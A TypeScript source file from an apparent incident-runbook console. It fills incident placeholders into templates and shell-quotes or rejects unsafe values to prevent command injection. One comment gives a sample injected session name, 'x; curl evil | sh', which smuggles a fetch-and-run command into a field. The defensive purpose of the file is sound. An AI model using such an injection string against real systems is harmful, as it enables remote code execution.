import { AppError } from "@/lib/errors";
import { placeholderContexts, type Quoting } from "./shell-context";

/** What a runbook may ask of the incident it runs for. */
export const PLACEHOLDERS = ["agent_id", "session_id", "incident_id", "incident_start"] as const;
export type Placeholder = (typeof PLACEHOLDERS)[number];
export type PlaceholderValues = Partial<Record<Placeholder, string | Date | null>>;

/** `{name}` with an identifier inside; `{print $1}` and `{}` are not placeholders. */
const PLACEHOLDER = /\{([A-Za-z_][A-Za-z0-9_]*)\}/g;

const MISSING: Record<Placeholder, string> = {
  agent_id: "this step needs an agent: the incident names none",
  session_id: "this step needs a session: the incident names none",
  incident_id: "this step needs an incident id: none was given",
  incident_start: "this step needs the incident's start time: the incident records none",
};

export function isPlaceholder(name: string): name is Placeholder {
  return (PLACEHOLDERS as readonly string[]).includes(name);
}

/** Each `{name}` in a template once, in order, with the offset of its first occurrence. */
export function placeholdersIn(template: string): { name: string; index: number }[] {
  const seen = new Map<string, number>();
  for (const match of template.matchAll(PLACEHOLDER)) {
    const name = match[1] ?? "";
    if (!seen.has(name)) seen.set(name, match.index);
  }
  return [...seen].map(([name, index]) => ({ name, index }));
}

export function describePlaceholders(): string {
  const names = PLACEHOLDERS.map((p) => `{${p}}`);
  return `${names.slice(0, -1).join(", ")} and ${names.at(-1)}`;
}

function placeholderText(value: string | Date | null | undefined): string | null {
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? null : value.toISOString();
  return value ? value : null;
}

// Characters a POSIX shell never interprets inside a word (a leading "=" is zsh's path lookup).
const SHELL_SAFE = /^[A-Za-z0-9._:@%+,/-][A-Za-z0-9._:@%+=,/-]*$/;

/**
 * A value as it must appear at a point of a command the scanner proved plain (shell-context.ts). A
 * session id is chosen by the agent, so a compromised agent could name a session `x; curl evil | sh`:
 * anything beyond plain characters is single-quoted, closing and reopening the template's own quotes.
 */
function shellQuote(value: string, at: Quoting, mustQuote: boolean): string {
  if (SHELL_SAFE.test(value) && !mustQuote) return value;
  const quoted = `'${value.replaceAll("'", `'\\''`)}'`;
  if (at === "single") return `'${quoted}'`;
  if (at === "double") return `"${quoted}"`;
  return quoted;
}

function shellProblem(name: string, value: string): string | null {
  if (/[\u0000-\u001f\u007f]/.test(value)) return `${name} holds control characters, which cannot go into a command`;
  if (value.startsWith("-")) return `${name} "${value}" starts with "-", which the command would read as an option`;
  // fish reads \' inside single quotes as a quote, so no quoting keeps a backslash literal in every shell.
  if (value.includes("\\")) return `${name} holds a backslash, which shells do not all read alike inside quotes`;
  if (/(^|\/)\.\.(\/|$)/.test(value)) return `${name} holds a ".." path segment, which would lead a path in the command out of the directory it names`;
  return null;
}

/**
 * Fills `{agent_id}`, `{session_id}`, `{incident_id}` and `{incident_start}` from the incident.
 * With `{ shell: true }` the result is a command a person will paste into a shell: each value is
 * quoted for the place it fills, and a placeholder anywhere no quoting is sure to hold (see
 * shell-context.ts) is refused. A placeholder without a value, an unknown one, or one refused is a
 * VALIDATION error naming it: the caller shows the template with the reason, never a half-filled command.
 */
export function fillPlaceholders(template: string, values: PlaceholderValues, opts: { shell?: boolean } = {}): string {
  const errors: { path: string; message: string }[] = [];
  for (const { name } of placeholdersIn(template)) {
    if (!isPlaceholder(name)) {
      errors.push({ path: name, message: `unknown placeholder {${name}}: a runbook can use ${describePlaceholders()}` });
      continue;
    }
    const value = placeholderText(values[name]);
    if (value === null) errors.push({ path: name, message: MISSING[name] });
    else if (opts.shell) {
      const problem = shellProblem(name, value);
      if (problem) errors.push({ path: name, message: problem });
    }
  }
  const contexts = opts.shell ? placeholderContexts(template, isPlaceholder) : null;
  for (const { path, message } of contexts ? shellContextProblems(template, contexts) : []) {
    if (!errors.some((e) => e.message === message)) errors.push({ path, message });
  }
  if (errors.length > 0) {
    throw new AppError("VALIDATION", errors.map((e) => e.message).join("; "), { details: { errors } });
  }
  return template.replace(PLACEHOLDER, (match, name: string, offset: number) => {
    if (!isPlaceholder(name)) return match;
    const value = placeholderText(values[name]) ?? "";
    if (!contexts) return value;
    const context = contexts.get(offset);
    return context?.fill ? shellQuote(value, context.quoting, context.mustQuote) : match;
  });
}

/** Each placeholder of a shell command that no value may fill, with why: the same for every incident. */
export function shellContextProblems(
  template: string,
  contexts = placeholderContexts(template, isPlaceholder),
): { path: string; index: number; message: string }[] {
  return [...template.matchAll(PLACEHOLDER)].flatMap((match) => {
    const name = match[1] ?? "";
    if (!isPlaceholder(name)) return [];
    const context = contexts.get(match.index);
    if (context?.fill) return [];
    return [{ path: name, index: match.index, message: context?.reason ?? `{${name}} sits where the console cannot tell how a shell reads it` }];
  });
}
